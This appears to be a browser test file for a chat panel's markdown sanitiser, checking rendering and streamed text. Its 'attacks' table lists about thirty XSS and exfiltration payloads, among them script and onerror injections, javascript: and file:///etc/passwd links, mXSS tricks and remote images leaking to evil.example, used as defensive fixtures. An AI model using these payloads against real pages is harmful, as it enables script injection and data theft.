// Markdown in the page: nothing of it runs, loads or styles; growing text ends as whole text does.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { launch, openChat } from './page.mjs';
import * as s from './samples.mjs';

let browser;
let chat;
before(async () => {
  browser = await launch();
  chat = await openChat(browser);
});
after(() => browser?.close());

const fences = '`'.repeat(3);

let sessions = 0;

/** A new session with one answer, drawn to its end. */
async function drawn(text) {
  await chat.post(s.ready, s.opened([s.prompt('go'), s.text(text)], { session: { id: `ses-${++sessions}` } }));
  await settled();
}

/** Long texts are drawn over several frames: until nothing changed for a while. */
async function settled() {
  const size = () => chat.page.evaluate(() => document.querySelector('.said .markdown')?.innerHTML.length ?? 0);
  for (let before = -1, same = 0; same < 4; ) {
    await chat.frame();
    const now = await size();
    same = now === before && now > 0 ? same + 1 : 0;
    before = now;
  }
}

const textNow = () => chat.page.evaluate(() => document.querySelector('.said .markdown').textContent.replace(/\s+/g, ' ').trim());

describe('attacks', () => {
  const attacks = {
    script: '<script>window.hit = 1</script>',
    'script in a list': '- a\n- <script>window.hit = 1</script>',
    onerror: '<img src=x onerror="window.hit = 1">',
    onload: '<svg onload="window.hit = 1"></svg>',
    'svg script': '<svg><script>window.hit = 1</script></svg>',
    'svg use': '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
    'javascript link': '[click](javascript:window.hit=1)',
    'javascript link, spelled': '[click](JaVaScRiPt:window.hit=1) [click](java&#115;cript:window.hit=1) [click](&#x6A;avascript:window.hit=1)',
    'javascript autolink': '<javascript:window.hit=1>',
    'vbscript and file links': '[a](vbscript:x) [b](file:///etc/passwd)',
    'data link': '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
    'command link': '[click](command:workbench.action.terminal.new)',
    'remote image': '![x](https://evil.example/leak.png?secret)',
    'remote image by reference': '![x][r]\n\n[r]: https://evil.example/leak.png',
    'data image': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    'html image': '<img src="https://evil.example/leak.png">',
    srcset: '<img srcset="https://evil.example/a.png 1x">',
    'picture and video': '<picture><source srcset="https://evil.example/a"></picture><video src="https://evil.example/v" poster="https://evil.example/p"></video>',
    style: '<style>body{background:url(https://evil.example/s)}</style>',
    'style attribute': '<p style="background:url(https://evil.example/s)">x</p>',
    'link element': '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p">',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    base: '<base href="https://evil.example/">',
    iframe: '<iframe src="https://evil.example/" srcdoc="<script>parent.hit=1</script>"></iframe>',
    object: '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    form: '<form action="https://evil.example/"><input name=a autofocus onfocus="window.hit=1"><button>go</button></form>',
    mathml: '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.hit=1>">',
    template: '<template><img src=x onerror="window.hit = 1"></template>',
    'broken out of a fence': `${fences}"><img src=x onerror="window.hit=1">\n</code></pre><script>window.hit=1</script>\n${fences}`,
    'broken out of a title': '[x](https://a.example "\\"><img src=x onerror=window.hit=1>")',
    'broken out of alt': '![\\"><img src=x onerror=window.hit=1>](https://evil.example/y)',
    'highlighted code': `${fences}html\n<img src="https://evil.example/z" onerror="window.hit=1"><span class="x" onclick="window.hit=1">\n${fences}`,
    comment: '<!--><img src=x onerror="window.hit=1">-->',
  };
  for (const [name, attack] of Object.entries(attacks)) {
    test(name, async () => {
      await drawn(`before\n\n${attack}\n\nafter`);
      const found = await chat.page.evaluate(() => {
        const markdown = document.querySelector('.said .markdown');
        const all = [...markdown.querySelectorAll('*')];
        const tags = new Set(['P', 'BR', 'A', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'SPAN', 'DIV', 'BUTTON', 'EM', 'STRONG', 'BLOCKQUOTE', 'H1', 'H2', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD']);
        return {
          hit: window.hit, url: location.href,
          tags: all.map((e) => e.tagName).filter((tag) => !tags.has(tag)),
          attributes: all.flatMap((e) => e.getAttributeNames().filter((n) => /^on|^(src|srcset|href|style|action|srcdoc|poster|background)$/.test(n)).map((n) => `${e.tagName} ${n}`)),
          links: all.map((e) => e.dataset.href).filter((href) => href && !/^https?:\/\//.test(href)),
        };
      });
      assert.deepEqual(found, { hit: undefined, url: 'http://chat.test/', tags: [], attributes: [], links: [] });
      assert.deepEqual(chat.asked, []);
      assert.deepEqual(chat.problems, []);
    });
  }

  test('the sanitiser holds even for what the parser would never make', async () => {
    const sanitiser = await import('./bundle.mjs').then(({ bundleGlobal }) => bundleGlobal("export { sanitized } from './media/chat/markdown/sanitize'"));
    await chat.page.evaluate(`{ ${sanitiser}; window.clean = (html) => { const d = document.createElement('div'); d.append(bundled.sanitized(html)); return d.innerHTML; } }`);
    for (const [dirty, clean] of [
      ['<script>x</script><p onclick="x">a</p>', '<p>a</p>'],
      ['<img src="https://evil.example/x">', ''],
      ['<a href="https://evil.example" data-href="x" style="color:red">a</a>', '<a data-href="x">a</a>'],
      ['<svg><a xlink:href="javascript:x">a</a></svg>', ''],
      ['<math><mi>a</mi></math>', ''],
      ['<input><button>b</button><iframe></iframe>', 'b'],
      ['<p data-anything="1" aria-label="x" class="menu" id="a">a</p>', '<p>a</p>'],
    ]) assert.equal(await chat.page.evaluate((html) => window.clean(html), dirty), clean);
    assert.deepEqual(chat.asked, []);
    // The browser complains of what it saw in the dirty HTML and did not let happen.
    chat.problems.length = 0;
  });
});

test('a link opens through the host alone, and says where it leads', async () => {
  await drawn('[docs](https://example.com/a?b=1&c=2) and https://example.org/x and main.py');
  await chat.replies({ openLink: {} });
  const links = chat.page.getByRole('link');
  assert.equal(await links.count(), 2);
  assert.equal(await links.first().getAttribute('title'), 'https://example.com/a?b=1&c=2');
  await links.first().click();
  await chat.page.locator('.said').focus();
  await links.nth(1).focus();
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.sent('openLink'), [{ href: 'https://example.com/a?b=1&c=2' }, { href: 'https://example.org/x' }]);
  assert.deepEqual(chat.asked, []);
});

describe('growing text', () => {
  const list = Array.from({ length: 600 }, (_, i) => `${i + 1}. item ${i} with \`code\``).join('\n');
  const table = `| a | b |\n|---|---|\n${Array.from({ length: 600 }, (_, i) => `| ${i} | value ${i} |`).join('\n')}`;
  const code = `${fences}ts\n${Array.from({ length: 900 }, (_, i) => `const a${i} = "${fences.slice(1)}";`).join('\n')}\n${fences}`;
  const texts = { answer: s.answer, list, table, code, 'code that never ends': code.slice(0, -4), paragraph: 'word '.repeat(6000), mixed: `# T\n\n${s.answer}\n\n${list}\n\n${s.answer}\n\n~~~\n${fences}\n~~~\n\nend` };
  for (const [name, text] of Object.entries(texts)) {
    test(`${name}: in pieces as at once`, async () => {
      await drawn(text);
      const a = await textNow();
      const id = `ses-${++sessions}`;
      const grown = (change) => ({ ...change, params: { ...change.params, sessionId: id } });
      await chat.post(s.opened([s.prompt('go')], { session: { id, state: 'running' } }), grown(s.event('stepStarted', { step: 1 })));
      const size = Math.ceil(text.length / 37);
      for (let i = 0; i < text.length; i += size) await chat.post(grown(s.event('textDelta', { text: text.slice(i, i + size) })));
      await chat.post(s.opened([s.prompt('go'), s.text(text)], { session: { id } }));
      await settled();
      const b = await textNow();
      // Where a long table was cut depends on what had come, and so does where its header is repeated.
      if (name === 'table') assert.deepEqual([...new Set(a.match(/value \d+/g))], [...new Set(b.match(/value \d+/g))]);
      else assert.equal(a, b);
      if (name === 'list') assert.equal(await chat.page.locator('.said li').count(), 600);
      if (name === 'table') assert.ok(await chat.page.locator('.said td').count() >= 1200);
      if (name.startsWith('code')) assert.equal(await chat.page.locator('.said .code').count(), 1);
      assert.deepEqual(chat.problems, []);
    });
  }
});
